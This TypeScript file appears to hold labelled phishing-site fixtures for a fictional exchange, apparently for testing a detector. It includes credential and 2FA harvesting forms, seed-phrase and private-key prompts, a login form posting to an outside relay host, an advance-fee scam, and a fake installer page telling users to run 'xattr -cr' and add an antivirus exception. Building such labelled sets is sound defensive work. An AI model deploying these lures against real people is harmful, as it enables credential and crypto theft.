import type { LabelledSite } from '../../../labelled-site.ts';
import type { HarbourBrand } from '../brands.ts';
import { padded, recoloured, savedBadly, turned } from '../drawing/alterations.ts';
import { delvaxiLogo } from '../drawing/brand-logos.ts';
import { photo, shown, squareCode } from '../drawing/pictures.ts';
import { card, landing, manual, night, tables } from '../structures/offering.ts';
import { whole, written } from '../structures/parts.ts';

const lime = '#c6f432';
const foot =
  '© 2026 Delvaxi Exchange UAB. Crypto assets are volatile; you may lose all that you invest. Terms · Fees · Status';

/** Kits against the customers of the exchange. */
export const forTheCoins: readonly LabelledSite<HarbourBrand>[] = [
  {
    host: 'delvaxl.com',
    label: 'impostor',
    kind: 'two-step kit on a typo',
    brand: 'delvaxi',
    reason: 'An l for the i; takes the mail address, then the password and the code of the authenticator.',
    foundBy: 'permutation',
    isClear: true,
    pages: {
      '/': written(() =>
        night({
          lang: 'en',
          title: 'Log in | Delvaxi',
          name: '<img src="/media/d.png" alt=""> Delvaxi',
          nav: ['Markets', 'Trade', 'Earn', 'Card'],
          colour: lime,
          foot,
          main: '<h1>Welcome back to Delvaxi</h1><form action="/password" method="get"><label>Email or phone number</label><input name="login" required><button>Next</button></form><p>No account? <a href="/signup">Create a Delvaxi account</a></p>',
          side: '<h3>Scan to log in</h3><img src="/media/qr.png" width="180" alt="QR code"><p>Open the Delvaxi app and scan the code.</p><table><tr><th>BTC</th><td>96,412.10</td><td>+1.2 %</td></tr><tr><th>ETH</th><td>5,204.77</td><td>−0.4 %</td></tr></table>',
        }),
      ),
      '/password': written(() =>
        night({
          lang: 'en',
          title: 'Log in | Delvaxi',
          name: '<img src="/media/d.png" alt=""> Delvaxi',
          nav: ['Markets', 'Trade'],
          colour: lime,
          foot,
          main: '<h1>Enter your password</h1><form action="/verify" method="post"><input type="password" name="password"><label>2FA code from your authenticator</label><input name="totp" inputmode="numeric"><button>Log in</button></form>',
        }),
      ),
      '/media/d.png': shown(delvaxiLogo),
      '/media/qr.png': shown(squareCode(51)),
    },
  },
  {
    host: 'delvaxi-wallet-restore.com',
    label: 'impostor',
    kind: 'seed phrase',
    brand: 'delvaxi',
    reason: 'Asks for the twelve words of a wallet under the logo of the exchange.',
    foundBy: 'certificate',
    ageDays: 1,
    isClear: true,
    pages: {
      '/': written(() =>
        card({
          lang: 'en',
          title: 'Restore your Delvaxi Wallet',
          name: '<img class="lg" src="/logo.png" alt="Delvaxi">',
          nav: ['Support', 'Security'],
          colour: '#101418',
          foot: 'Delvaxi Wallet 4.2',
          main: `<h1>Import using your recovery phrase</h1><p>Delvaxi Wallet was migrated to a new network on 20 November. Restore your wallet with its 12 or 24 words to see your balance again.</p>
<form method="post" action="/import">${Array.from({ length: 12 }, (_, at) => `<input name="w${at + 1}" placeholder="${at + 1}." autocomplete="off" style="width:31%">`).join(' ')}<input type="password" name="np" placeholder="New wallet password"><button>Restore wallet</button></form><small>Your phrase never leaves this device.</small>`,
          side: '<p>Having a hardware wallet? Connect it first, then enter the words of its backup card.</p>',
        }),
      ),
      '/logo.png': shown(delvaxiLogo),
    },
  },
  {
    host: 'delvaxi-desktop.io',
    label: 'impostor',
    kind: 'fake app',
    brand: 'delvaxi',
    reason:
      'A desktop program that the exchange does not have, offered as its own; it takes what the wallets hold.',
    foundBy: 'search',
    pages: {
      '/': written(() =>
        landing({
          lang: 'en',
          title: 'Delvaxi Desktop – trade faster on Windows and macOS',
          name: '<img src="/assets/icon.png" alt=""> Delvaxi',
          nav: ['Features', 'Download', 'Changelog', 'Docs'],
          colour: '#5b7f00',
          main: `<div class="hero"><h1>Delvaxi Desktop 3 is here</h1><p>The official terminal of the Delvaxi Exchange. Native charts, one-click orders, and all your wallets in one window.</p><a class="cta" href="/get/DelvaxiDesktop-3.0.2.exe">Download for Windows</a> <a class="cta" href="/get/DelvaxiDesktop-3.0.2.dmg">Download for macOS</a></div>
<div class="grid"><div><img src="/assets/shot.jpg" alt="Terminal"><h3>Depth at a glance</h3><p>Order books of 340 markets, refreshed a hundred times per second.</p></div><div><h3>Import any wallet</h3><p>Bring in browser wallets and hardware wallets with their recovery phrase.</p></div><div><h3>macOS says it is damaged?</h3><p>Open Terminal, paste <code>xattr -cr /Applications/Delvaxi.app</code>, and enter your password.</p></div></div>`,
          side: '<p>SHA-256 of the installer: 9c1f77d2be04a1a58a6a8e0d7731c5b2. Requires Windows 10 or macOS 13. If your antivirus reports the trading engine, add an exception.</p>',
          foot,
        }),
      ),
      '/assets/icon.png': shown(delvaxiLogo),
      '/assets/shot.jpg': shown(photo({ seed: 53, colours: ['#10202a', '#2f5d3a', '#0b0d12'] })),
    },
  },
  {
    host: 'delvaxi-airdrop.xyz',
    label: 'impostor',
    kind: 'giveaway with a wallet',
    brand: 'delvaxi',
    reason:
      'An airdrop that the exchange never had; its script asks to connect a wallet and to sign everything away.',
    foundBy: 'report',
    ageDays: 2,
    pages: {
      '/': written(() =>
        whole(
          {
            lang: 'en',
            title: 'Claim $DLVX | Delvaxi Airdrop Season 2',
            name: '',
            nav: [],
            main: '',
            foot: '',
            colour: lime,
            head: '<script src="/claim.js" defer></script>',
          },
          'body{margin:0;background:#06080b;color:#fff;font:18px/1.5 "Space Grotesk",Ubuntu,sans-serif;text-align:center}.z{padding:60px 20px}.z img{width:110px;filter:drop-shadow(0 0 40px COLOUR)}h1{font-size:54px;margin:20px}.c{background:COLOUR;color:#000;border:0;border-radius:40px;padding:18px 60px;font-size:20px;font-weight:800}.s{display:flex;justify-content:center;gap:60px;color:#8a93a3}.s b{display:block;color:#fff;font-size:28px}dialog{background:#12161d;color:#fff;border-radius:18px;border:1px solid #333}dialog button{display:block;width:280px;margin:8px;padding:14px}',
          `<div class="z"><img src="/d.png" alt="Delvaxi"><h1>50,000,000 $DLVX for Delvaxi users</h1><p>Connect the wallet that you used with Delvaxi before October 2026 and claim up to 4,200 $DLVX.</p><p id="clock">Claim closes in 02:14:33</p><button class="c" id="go">Connect wallet</button></div>
<div class="s"><span><b>81,204</b>wallets claimed</span><span><b>$3.41</b>price</span><span><b>92 %</b>allocated</span></div><p>Backed by Delvaxi Exchange. Audited. Gas is paid by Delvaxi.</p>`,
        ),
      ),
      '/claim.js': {
        headers: { 'content-type': 'text/javascript' },
        body: `const box=document.createElement('dialog');box.innerHTML='<h2>Connect a wallet</h2><button>Browser wallet</button><button>Hardware wallet</button><button id="man">Connect manually</button><p id="f"></p>';document.body.append(box);
document.getElementById('go').onclick=()=>box.showModal();document.getElementById('man').onclick=()=>{document.getElementById('f').innerHTML='<textarea name="phrase" rows="4" placeholder="Recovery phrase or private key"></textarea><button>Connect</button>';};
let left=8073;setInterval(()=>{left-=1;document.getElementById('clock').textContent='Claim closes in '+new Date(left*1000).toISOString().slice(11,19);},1000);`,
      },
      '/d.png': shown(delvaxiLogo),
    },
  },
  {
    host: 'xn--delvax-u9a.com',
    label: 'impostor',
    kind: 'credential kit on a homograph',
    brand: 'delvaxi',
    reason: 'An i without its dot; the logo is turned, the form takes the address and the password.',
    foundBy: 'permutation',
    isClear: true,
    pages: {
      '/': written(() =>
        card({
          lang: 'es',
          title: 'Delvaxi: acceso seguro',
          name: '<img class="lg" src="/img/dx.png" alt="Delvaxi">',
          nav: ['Ayuda', 'Comisiones', 'Seguridad'],
          colour: '#101418',
          foot,
          main: '<h1>Inicia sesión en Delvaxi</h1><p>Hemos detectado un inicio de sesión desde Varsovia. Confirma que eres tú.</p><form method="post" action="/sesion"><input name="correo" placeholder="Correo electrónico"><input name="clave" type="password" placeholder="Contraseña"><button>Entrar</button></form>',
        }),
      ),
      '/img/dx.png': shown(turned(delvaxiLogo, 12)),
    },
  },
  {
    host: 'delvaxi-help.gitbook.io',
    label: 'impostor',
    kind: 'false manual on free hosting',
    brand: 'delvaxi',
    reason: 'Looks like the manual of the exchange; every "log in" of it leads to a page that takes wallets.',
    foundBy: 'search',
    leadsTo: { host: 'walletsync-node.site', path: '/' },
    pages: {
      '/': written((link) =>
        manual({
          lang: 'en',
          title: 'Delvaxi Login – Secure Access to Your Delvaxi Exchange Account',
          name: 'Delvaxi® Help',
          nav: ['Delvaxi login', 'Delvaxi app', 'Two-factor', 'Withdrawals'],
          colour: '#5b7f00',
          main: `<img src="/hero.png" alt="Delvaxi login"><h1>Delvaxi® Login | Official Site</h1><p>Delvaxi is a leading exchange for digital assets. In this guide you learn how to log in to Delvaxi safely, how to set up two-factor authentication, and what to do when a Delvaxi login fails.</p>
<p><a class="go" href="${link('walletsync-node.site', '/')}">Log in to Delvaxi</a></p><h2>Steps for the Delvaxi login</h2><ol><li>Open the official page with the button above.</li><li>Enter your email address and password.</li><li>Confirm the six-digit code.</li><li>When your account is limited, synchronise your wallet.</li></ol>
<div class="tip">Never share your password with anyone. Use only the link on this page.</div><h2>Frequently asked questions</h2><p><b>Why can I not log in to Delvaxi?</b> Your wallet may be out of sync. <a href="${link('walletsync-node.site', '/')}">Synchronise it</a>.</p>`,
          side: 'On this page<br>Steps<br>FAQ',
          foot: 'Last updated 6 days ago',
        }),
      ),
      '/hero.png': shown(padded(delvaxiLogo, 0.6, '#e9ffd0')),
    },
  },
  {
    host: 'delvaxi-fund-recovery.com',
    label: 'impostor',
    kind: 'fee for a blocked withdrawal',
    brand: 'delvaxi',
    reason:
      'A "compliance desk" of the exchange that releases a withdrawal against a tax in coins, by messenger.',
    foundBy: 'report',
    ageDays: 73,
    pages: {
      '/': written(() =>
        tables({
          lang: 'fr',
          title: 'Delvaxi – Service conformité et retraits',
          name: '<img src="/delvaxi.jpg" height="70" alt=""> Delvaxi Exchange',
          nav: ['Dossier', 'Taxe', 'Contact'],
          colour: '#101418',
          side: '<b>Dossier n° DX-77120</b><br>Solde : 41 306,55 USDT<br>Statut : <font color="red">bloqué</font><br><br>Telegram :<br>@delvaxi_compliance<br>WhatsApp :<br>+44 7700 900 482',
          main: `<h2>Votre retrait est en attente de la taxe de libération</h2><p>Madame, Monsieur,</p><p>À la suite d'un contrôle de l'autorité de régulation, les fonds de votre compte Delvaxi ont été placés sous séquestre. Pour libérer 41 306,55 USDT, une taxe de 8 % (3 304,52 USDT) doit être versée dans les 72 heures à l'adresse ci-dessous.</p>
<table border="1" cellpadding="6"><tr><td>Réseau</td><td>TRC-20</td></tr><tr><td>Adresse</td><td>TQ7vXk2mDelvaxi9rFh3bLw8sPz1uYcNe4</td></tr><tr><td>Montant</td><td>3 304,52 USDT</td></tr></table><p><img src="/qr.png" width="160" alt=""></p><p>Envoyez la preuve du paiement à votre conseiller Delvaxi par Telegram. Passé ce délai, les fonds seront définitivement confisqués.</p><p>Le service conformité, Delvaxi Exchange</p>`,
          foot: 'Delvaxi Exchange Compliance Department, Vilnius',
        }),
      ),
      '/delvaxi.jpg': shown(savedBadly(delvaxiLogo)),
      '/qr.png': shown(squareCode(57)),
    },
  },
  {
    host: 'kundenportal-coins.eu',
    label: 'impostor',
    kind: 'login that posts elsewhere',
    brand: 'delvaxi',
    reason:
      'No name in the host; the page poses as the German portal of the exchange and posts to another server.',
    foundBy: 'report',
    isClear: true,
    entry: '/dx/de/anmeldung',
    pages: {
      '/dx/de/anmeldung': written((link) =>
        tables({
          lang: 'de',
          title: 'Delvaxi Deutschland – Anmeldung',
          name: '<img src="/dx/logo.png" height="76" alt="Delvaxi"> Delvaxi',
          nav: ['Start', 'Kurse', 'Sicherheit', 'Impressum'],
          colour: '#1d6fb8',
          side: '<b>Hinweis</b><br>Seit 1. November gilt die neue EU-Travel-Rule. Bitte bestätigen Sie Ihr Konto bis 30.11.2026.',
          main: `<h2>Anmeldung zum Delvaxi-Konto</h2><p>Um Auszahlungen weiter zu nutzen, bestätigen Sie bitte einmalig Ihre Zugangsdaten.</p><form method="post" action="${link('formdrop-relay.top', '/in/9902')}"><table cellpadding="5"><tr><td>E-Mail</td><td><input name="mail" size="30"></td></tr><tr><td>Passwort</td><td><input type="password" name="pw" size="30"></td></tr><tr><td>2FA-Code</td><td><input name="code" size="8"></td></tr><tr><td></td><td><input type="submit" value="Bestätigen"></td></tr></table></form>
<p>Delvaxi Deutschland ist eine Marke der Delvaxi Exchange UAB. Nicht bestätigte Konten werden nach geltendem Recht eingeschränkt.</p>`,
          foot: 'Delvaxi Deutschland 2026',
        }),
      ),
      '/dx/logo.png': shown(recoloured(delvaxiLogo, 130)),
    },
  },
];
